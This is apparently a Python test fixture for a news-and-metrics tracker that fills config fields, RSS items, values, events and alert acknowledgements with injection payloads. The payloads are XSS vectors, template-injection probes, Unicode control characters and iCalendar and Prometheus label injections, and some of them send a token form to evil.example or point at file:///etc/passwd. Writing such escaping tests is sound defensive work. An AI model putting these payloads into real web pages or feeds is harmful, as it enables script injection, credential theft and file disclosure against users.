"""A home whose every text wants to be more than text: names in the file, fields of values, titles and links of a feed."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from xml.sax.saxutils import escape

from tests.support.web import Site
from tracker import pipeline
from tracker.pipeline import Desk
from tracker.pipeline.entering.rows import unfollowable

NOON = datetime(2026, 8, 17, 4, tzinfo=UTC)
#: Each would set `pwned`, load something, change the looks or turn the text around, where somebody forgot to escape it.
ATTACKS = (
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror='window.pwned=1'>",
    "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1",
    "</title></textarea></select></pre><svg onload=window.pwned=1>",
    "<a href=\"javascript:window.pwned=1\">x</a>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action=//evil.example><input name=token><button>ok",
    "{{ 7*191 }}{% raw %}${7*191}#{7*191}",
    "\u202etxt.exe\u2066 \u200f\u0000\u001b[31m]0;x\u0007",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "]]>--><!--<![CDATA[<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.pwned=1</x:script>",
    "END:VEVENT\r\nBEGIN:VALARM\nATTACH:file:///etc/passwd",
    'x"} 1\ntracker_forged{a="b',
    "<p hx-get=//evil.example hx-trigger=load hx-on:click=window.pwned=1>",
)  # fmt: skip
#: So many of the readings that wait are decided of.
REJECTED = 3
LINKS = (
    "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", " javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>", "vbscript:x", "//evil.example/x", "file:///etc/passwd",
    "https://example.org/\"onmouseover=\"window.pwned=1", "https://example.org/'><script>window.pwned=1</script>", "\\\\evil.example",
)  # fmt: skip


def declaration(feed: str) -> str:
    """Every name and every remark of the file is an attack; JSON is YAML."""
    attack = iter(ATTACKS * 20)

    def text() -> str:
        return next(attack).replace("\0", "")

    indicators = {
        f"growth{number}": {
            "name": text(), "group": text(), "unit": "x", "subject": "one", "note": text(),
            "targets": [{"value": ">=50", "by": "2026-12-31", "source": text()}],
            "check": {"by_hand": "monthly", "where": text()},
            "rules": {"low": {"kind": "threshold", "fire": "< 10", "basis": text()}},
        }
        for number in range(len(ATTACKS))
    } | {
        "news": {
            "name": text(), "event": ["funding", "departure"], "subject": "one",
            "rules": {"told": {"kind": "event", "basis": text()}},
        },
        "worth": {"name": text(), "unit": "USD", "subject": "one", "figures": {"words": ["raises"], "period": "named"}},
        "attention": {"name": text(), "mentions": True, "subject": "one"},
    }  # fmt: skip
    return json.dumps({
        "watch": "Watch " + text(), "timezone": "Asia/Shanghai", "receivers": {"folder": {"kind": "markdown"}},
        "digest": {"on": "monday", "at": "08:00"},
        "subjects": {"one": {"name": "One " + text(), "aliases": ["Starbridge"]}},
        "sources": {"wire": {"kind": "feed", "url": feed, "allow_private": True, "note": text(), "lookback": "30d"}},
        "indicators": indicators,
    })  # fmt: skip


def feed(site: Site) -> str:
    """A feed with an attack in each title, text, link and key; some of them are news."""
    items = []
    for number, attack in enumerate(ATTACKS):
        link = LINKS[number % len(LINKS)]
        title = f"Starbridge raises $5{number}M in series B {attack}"
        texts = {"title": title, "description": f"Starbridge {attack}", "link": link, "guid": f"{number} {attack}"}
        inside = "".join(f"<{name}>{escape(_of_xml(text))}</{name}>" for name, text in texts.items())
        items.append(f"<item>{inside}<pubDate>Sun, 16 Aug 2026 {number:02}:00:00 GMT</pubDate></item>")
    return site.put("/feed.xml", f"<rss version='2.0'><channel><title>x</title>{''.join(items)}</channel></rss>")


def _of_xml(text: str) -> str:
    return "".join(letter for letter in text if letter in "\n\t" or letter >= " ")


def live(desk: Desk) -> None:
    """A pass over the feed, values and events by hand with an attack in every field, and an answer to each alert."""
    pipeline.collect(desk)
    for number, attack in enumerate(ATTACKS):
        link = LINKS[number % len(LINKS)]
        # What cannot be followed is refused from a hand; the feed brings it.
        said = {"source": attack, "url": "" if unfollowable(link) else link, "note": attack, "of": "2026-07"}
        pipeline.record_value(desk, f"growth{number}", "4x", **said)  # type: ignore[arg-type]
        label = attack.replace(";", "").replace("=", "").strip()
        pipeline.record_value(desk, f"growth{number}", "5x", labels={"k": label}, edition=attack, **said)  # type: ignore[arg-type]
        pipeline.record_event(desk, "news", f"{attack} {number}", type="departure", **said)  # type: ignore[arg-type]
    for number, row in enumerate(pipeline.waiting(desk)[:REJECTED]):
        pipeline.reject(desk, row["id"], ATTACKS[number])
    pipeline.evaluate(desk)
    pipeline.deliver(desk)
    for row in pipeline.alerts(desk):
        attack = ATTACKS[row["id"] % len(ATTACKS)]
        pipeline.ack(desk, row["id"], "useful", attack, author=attack)
        rule = f"{row['indicator']}.{row['rule']}"
        pipeline.mute(desk, rule=rule, subject=None, lasts=timedelta(days=7), why=attack, author=attack)
